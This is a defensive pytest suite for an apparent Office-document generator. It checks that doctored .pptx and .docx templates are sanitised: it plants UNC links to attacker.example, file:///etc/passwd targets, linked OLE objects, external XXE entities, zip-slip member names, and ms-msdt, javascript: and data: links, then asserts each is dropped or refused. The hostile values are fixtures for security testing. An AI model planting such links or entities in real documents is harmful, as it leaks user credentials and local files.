"""Hostile Office files: templates that point outside themselves, entities, odd zips, links.

A designer's deck template or reference document may carry external relationships (a
``file:`` or UNC path that makes Windows send the user's credentials, a linked picture, an
attached Word template, a linked OLE object). None may reach an output: each is dropped with
one PG022 warning and the outputs still open. An XML part declaring a DOCTYPE, an oversized
member and a member name that escapes or repeats are refused (PG002) before python-pptx or
python-docx read the file. A link in content with a scheme other than http, https or mailto is
an error at its line (PG119).
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from hostile_support import (
    MODULE_ID,
    Loopback,
    Secret,
    add_module,
    assert_refused,
    build,
    error_lines,
    line_of,
)
from lxml import etree
from pptx import Presentation
from reliability_support import run_packgen, standard_pack

from packgen.paths import packaged_templates

REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = REL_NS + "/"
LAYOUT = "ppt/slideLayouts/slideLayout2.xml"
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
R_ATTRS = re.compile(rb'\br:(?:id|embed|link|pict)="([^"]*)"')
WEB = re.compile(r"^(https?|mailto):", re.IGNORECASE)

Edit = Callable[[bytes], bytes]


# --- doctoring a template's zip ----------------------------------------------------------


def doctor(source: Path, target: Path, edits: dict[str, Edit],
           extra: list[tuple[str, bytes]] = ()) -> Path:
    """Write ``source`` to ``target`` with parts changed by ``edits`` and members appended."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w",
                                                         zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for name in names:
            data = src.read(name)
            dst.writestr(name, edits.get(name, lambda b: b)(data))
        for name in set(edits) - set(names):
            dst.writestr(name, edits[name](b""))
        for name, data in extra:
            dst.writestr(name, data)
    return target


def add_rel(rel_id: str, reltype: str, target: str) -> Edit:
    """Return an edit adding one external relationship to a ``.rels`` part (made if absent)."""
    def edit(data: bytes) -> bytes:
        if not data:
            data = f'<Relationships xmlns="{PKG_NS}"></Relationships>'.encode()
        rel = (f'<Relationship Id="{rel_id}" Type="{RT}{reltype}" Target="{target}" '
               'TargetMode="External"/>')
        return data.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return edit


def insert_before(marker: bytes, xml: str) -> Edit:
    """Return an edit inserting ``xml`` before the last ``marker`` of a part."""
    def edit(data: bytes) -> bytes:
        head, sep, tail = data.rpartition(marker)
        assert sep, f"{marker!r} not in the part"
        return head + xml.encode() + sep + tail
    return edit


def deck_template(root: Path, edits: dict[str, Edit],
                  extra: list[tuple[str, bytes]] = ()) -> Path:
    """Put a doctored copy of packgen's deck.pptx in the project as its deck template."""
    return doctor(packaged_templates() / "deck.pptx", root / "templates" / "deck.pptx", edits,
                  extra)


def reference_docx(root: Path, edits: dict[str, Edit],
                   extra: list[tuple[str, bytes]] = ()) -> Path:
    """Put a doctored copy of packgen's reference.docx in the project."""
    return doctor(packaged_templates() / "reference.docx",
                  root / "templates" / "reference.docx", edits, extra)


LAYOUT_PIC = (
    '<p:pic xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL_NS}"><p:nvPicPr><p:cNvPr id="90" name="Linked logo"/>'
    '<p:cNvPicPr/><p:nvPr userDrawn="1"/></p:nvPicPr><p:blipFill><a:blip r:link="{rid}"/>'
    '<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
    "</p:spPr></p:pic>")
LAYOUT_LINKED_SHAPE = (
    '<p:sp xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL_NS}"><p:nvSpPr><p:cNvPr id="91" name="Help">'
    '<a:hlinkClick r:id="{rid}"/></p:cNvPr><p:cNvSpPr/><p:nvPr userDrawn="1"/></p:nvSpPr>'
    '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:sp>')
LAYOUT_OLE = (
    '<p:graphicFrame xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL_NS}"><p:nvGraphicFramePr><p:cNvPr id="92" name="Linked sheet"/>'
    '<p:cNvGraphicFramePr/><p:nvPr userDrawn="1"/></p:nvGraphicFramePr>'
    '<p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic>'
    '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
    '<p:oleObj name="Sheet" r:id="{rid}" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/>'
    "</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>")


def layout_link(kind: str, reltype: str, target: str) -> dict[str, Edit]:
    """Return the edits giving layout 2 an external relationship and a shape using it."""
    shape = {"pic": LAYOUT_PIC, "shape": LAYOUT_LINKED_SHAPE, "ole": LAYOUT_OLE}[kind]
    return {LAYOUT_RELS: add_rel("rIdEvil", reltype, target),
            LAYOUT: insert_before(b"</p:spTree>", shape.replace("{rid}", "rIdEvil"))}


# --- what the outputs hold ---------------------------------------------------------------


def external_targets(path: Path) -> list[tuple[str, str, str]]:
    """Return (rels part, type, target) of every external relationship of an Office zip."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                for rel in etree.fromstring(archive.read(name)).iter(f"{{{PKG_NS}}}Relationship"):
                    if rel.get("TargetMode") == "External":
                        found.append((name, rel.get("Type", ""), rel.get("Target", "")))
    return found


def dangling_ids(path: Path) -> list[str]:
    """Return every r:id / r:embed / r:link of a part that names no relationship of it."""
    dangling = []
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        for name in names:
            if not name.endswith(".xml"):
                continue
            folder, base = name.rpartition("/")[::2]
            rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
            ids = set()
            if rels_name in names:
                ids = {rel.get("Id") for rel in etree.fromstring(archive.read(rels_name))}
            dangling += [f"{name}:{rid.decode()}" for rid in R_ATTRS.findall(archive.read(name))
                         if rid.decode() not in ids]
    return dangling


def office_outputs(root: Path) -> list[Path]:
    """Return every .pptx and .docx the build wrote."""
    return sorted(p for p in (root / "build").rglob("*") if p.suffix in (".pptx", ".docx"))


def assert_outputs_clean(root: Path) -> None:
    """Assert the outputs hold no external link but web and mail hyperlinks, and re-open."""
    outputs = office_outputs(root)
    assert outputs
    for path in outputs:
        bad = [t for t in external_targets(path)
               if not (t[1] == RT + "hyperlink" and WEB.match(t[2]))]
        assert bad == [], f"{path.name} points outside itself: {bad}"
        assert dangling_ids(path) == [], path.name
        opened = Presentation(str(path)) if path.suffix == ".pptx" else docx.Document(str(path))
        assert opened is not None


def dropped_warnings(output: str) -> list[str]:
    """Return the PG022 warning lines of a run."""
    return [ln for ln in output.splitlines() if "[PG022]" in ln]


def assert_dropped(done, shown: str, target: str, rels_part: str) -> None:
    """Assert a successful build with one PG022 warning naming the target and its part."""
    output = done.stdout + done.stderr
    assert done.returncode == 0, output
    (line,) = dropped_warnings(output)
    assert line.startswith(f"{shown}: warning: external link '{target}' in {rels_part} dropped")


# --- external relationships in the deck template -----------------------------------------


@pytest.mark.parametrize(("kind", "reltype", "target"), [
    ("shape", "hyperlink", "file:///etc/passwd"),
    ("pic", "image", r"\\attacker.example\share\logo.png"),
    ("ole", "oleObject", "file:///C:/Users/Public/evil.xlsx"),
    ("shape", "hyperlink", r"\\attacker.example\share\help.html"),
], ids=["file-hyperlink", "unc-picture", "ole-link", "unc-hyperlink"])
def test_external_links_in_the_deck_template_are_dropped(one_pack: Path, kind: str,
                                                         reltype: str, target: str) -> None:
    deck_template(one_pack, layout_link(kind, reltype, target))
    done = build(one_pack)
    assert_dropped(done, "templates/deck.pptx", target, LAYOUT_RELS)
    assert_outputs_clean(one_pack)


def test_a_linked_picture_on_a_web_server_is_dropped_and_never_fetched(
        one_pack: Path, loopback: Loopback) -> None:
    deck_template(one_pack, layout_link("pic", "image", f"{loopback.url}/logo.png"))
    done = build(one_pack)
    assert_dropped(done, "templates/deck.pptx", f"{loopback.url}/logo.png", LAYOUT_RELS)
    assert_outputs_clean(one_pack)
    loopback.assert_untouched()


def test_template_check_reports_the_same_dropped_link(one_pack: Path) -> None:
    deck_template(one_pack, layout_link("shape", "hyperlink", "file:///etc/passwd"))
    done = run_packgen("template", "check", "--project", str(one_pack))
    (line,) = dropped_warnings(done.stdout + done.stderr)
    assert line.startswith("templates/deck.pptx: warning: external link 'file:///etc/passwd' "
                           f"in {LAYOUT_RELS} dropped")


def test_a_web_hyperlink_on_a_layout_is_kept(one_pack: Path) -> None:
    deck_template(one_pack, layout_link("shape", "hyperlink", "https://example.org/help"))
    done = build(one_pack)
    assert done.returncode == 0, done.stderr
    assert dropped_warnings(done.stdout + done.stderr) == []
    (deck,) = office_outputs(one_pack)
    assert ("hyperlink", "https://example.org/help") in [
        (t[1].rsplit("/", 1)[1], t[2]) for t in external_targets(deck)]
    assert_outputs_clean(one_pack)


# --- external relationships in the reference document ------------------------------------


SETTINGS_RELS = "word/_rels/settings.xml.rels"
HEADER_RELS = "word/_rels/header1.xml.rels"
HEADER_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
    'drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/>'
    '<wp:docPr id="77" name="Linked logo"/><a:graphic xmlns:a="http://schemas.openxmlformats.org'
    '/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
    'picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
    f'<a:blip xmlns:r="{REL_NS}" r:link="rIdEvil"/><a:stretch><a:fillRect/></a:stretch>'
    '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/>'
    '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>")


@pytest.mark.parametrize(("edits", "target", "rels_part"), [
    ({SETTINGS_RELS: add_rel("rIdEvil", "attachedTemplate", r"\\attacker.example\t\evil.dotm"),
      "word/settings.xml": insert_before(
          b"</w:settings>", f'<w:attachedTemplate xmlns:r="{REL_NS}" r:id="rIdEvil"/>')},
     r"\\attacker.example\t\evil.dotm", SETTINGS_RELS),
    ({HEADER_RELS: add_rel("rIdEvil", "image", "file:///etc/passwd"),
      "word/header1.xml": insert_before(b"</w:hdr>", HEADER_PICTURE)},
     "file:///etc/passwd", HEADER_RELS),
], ids=["attached-template", "linked-header-picture"])
def test_external_links_in_the_reference_document_are_dropped(
        one_pack: Path, edits: dict[str, Edit], target: str, rels_part: str) -> None:
    reference_docx(one_pack, edits)
    done = build(one_pack, only="guide", timeout=240)
    assert_dropped(done, "templates/reference.docx", target, rels_part)
    assert_outputs_clean(one_pack)


# --- links in content --------------------------------------------------------------------


@pytest.mark.parametrize("href", [
    "ms-msdt:/id PCWDiagnostic /skip force", "javascript:alert(1)", "file:///etc/passwd",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", r"\\\\attacker.example\\share",
], ids=["ms-msdt", "javascript", "file", "data", "unc"])
def test_a_content_link_with_another_scheme_is_an_error_at_its_line(one_pack: Path,
                                                                    href: str) -> None:
    body = f"## Links\n\nA first line\nthen [the help page](<{href}>) here.\n"
    path = add_module(one_pack, body)
    line = assert_refused(one_pack, standard_pack(one_pack), f"content/modules/{MODULE_ID}.md",
                          line_of(path, "the help page"), only=None)
    assert line.endswith("[PG119]")
    assert "use an http, https or mailto address" in line


def test_web_and_mail_links_become_hyperlinks_in_the_deck_and_the_guide(one_pack: Path) -> None:
    links = ("- [Site](http://example.org/a)\n- [Secure](https://example.org/b)\n"
             "- [Mail](mailto:team@example.org)\n")
    add_module(one_pack, f"## Links\n\n{links}\n::: notes\n{links}:::\n")
    done = build(one_pack, only="deck,guide", timeout=240)
    assert done.returncode == 0, done.stderr
    wanted = {"http://example.org/a", "https://example.org/b", "mailto:team@example.org"}
    for path in office_outputs(one_pack):
        links = {t[2] for t in external_targets(path) if t[1] == RT + "hyperlink"}
        assert wanted <= links, path.name
    assert_outputs_clean(one_pack)


# --- entities and DOCTYPEs ---------------------------------------------------------------


def with_doctype(subset: str, reference: str, marker: bytes) -> Edit:
    """Return an edit putting a DOCTYPE with ``subset`` before a part's root, and a
    reference to its entity inside the part's text."""
    def edit(data: bytes) -> bytes:
        decl, sep, rest = data.partition(b"?>")
        root_name = re.match(rb"\s*<([\w:]+)", rest).group(1).decode()
        rest = rest.replace(marker, marker + reference.encode(), 1)
        return decl + sep + f"<!DOCTYPE {root_name} [{subset}]>".encode() + rest
    return edit


def entity_cases(secret: Secret) -> dict[str, str]:
    return {"internal": '<!ENTITY e "' + "lol" * 10 + '">',
            "external": f'<!ENTITY e SYSTEM "{secret.file().as_uri()}">'}


@pytest.mark.parametrize("kind", ["internal", "external"])
def test_a_doctype_in_a_deck_template_part_is_refused(one_pack: Path, secret: Secret,
                                                      kind: str) -> None:
    part = "ppt/slideLayouts/slideLayout1.xml"
    deck_template(one_pack, {part: with_doctype(entity_cases(secret)[kind],
                                                "<!-- &e; -->", b"<p:cSld")})
    line = assert_refused(one_pack, standard_pack(one_pack), "templates/deck.pptx")
    assert line == (f"templates/deck.pptx: error: {part} declares a DOCTYPE (entities are not "
                    "allowed in templates) [PG002]")
    check = run_packgen("template", "check", "--project", str(one_pack))
    assert check.returncode == 1
    assert "Traceback" not in check.stderr
    assert error_lines(check.stdout + check.stderr) == [line]
    assert secret.token not in check.stdout + check.stderr
    secret.assert_absent(one_pack / "build")


@pytest.mark.parametrize("kind", ["internal", "external"])
def test_a_doctype_in_a_reference_document_part_is_refused(one_pack: Path, secret: Secret,
                                                           kind: str) -> None:
    reference_docx(one_pack, {"word/styles.xml": with_doctype(
        entity_cases(secret)[kind], "<w:latentStyles/>", b"<w:docDefaults")})
    line = assert_refused(one_pack, standard_pack(one_pack), "templates/reference.docx",
                          only="guide")
    assert line.endswith("word/styles.xml declares a DOCTYPE (entities are not allowed in "
                         "templates) [PG002]")
    secret.assert_absent(one_pack / "build")


# --- zip members -------------------------------------------------------------------------


def test_a_reference_document_with_an_oversized_member_is_refused(one_pack: Path) -> None:
    big = bytes(range(256)) * (4096 * 60)
    target = one_pack / "templates" / "reference.docx"
    doctor(packaged_templates() / "reference.docx", target, {})
    with zipfile.ZipFile(target, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/media/huge.bin", big)
    line = assert_refused(one_pack, standard_pack(one_pack), "templates/reference.docx",
                          only="guide")
    assert "word/media/huge.bin" in line and "at most 50 MiB each" in line
    assert line.endswith("[PG002]")


@pytest.mark.parametrize(("template", "name", "problem"), [
    ("deck.pptx", "../../escape.xml", "climbs out of the zip"),
    ("deck.pptx", "/etc/absolute.xml", "has an absolute path"),
    ("deck.pptx", "ppt/presentation.xml", "appears twice"),
    ("reference.docx", "word/../../escape.xml", "climbs out of the zip"),
    ("reference.docx", "word/document.xml", "appears twice"),
])
def test_zip_members_that_escape_or_repeat_are_refused(one_pack: Path, template: str,
                                                       name: str, problem: str) -> None:
    target = one_pack / "templates" / template
    doctor(packaged_templates() / template, target, {}, [(name, b"<x/>")])
    only = "deck" if template == "deck.pptx" else "guide"
    line = assert_refused(one_pack, standard_pack(one_pack), f"templates/{template}",
                          only=only)
    assert f"zip member '{name}' {problem}" in line
    assert line.endswith("[PG002]")


def test_outputs_of_a_previous_build_stay_when_a_template_is_refused(one_pack: Path) -> None:
    assert build(one_pack).returncode == 0
    before = {p.name: p.read_bytes() for p in office_outputs(one_pack)}
    deck_template(one_pack, {}, [("../evil.xml", b"<x/>")])
    done = build(one_pack)
    assert done.returncode == 1
    assert {p.name: p.read_bytes() for p in office_outputs(one_pack)} == before
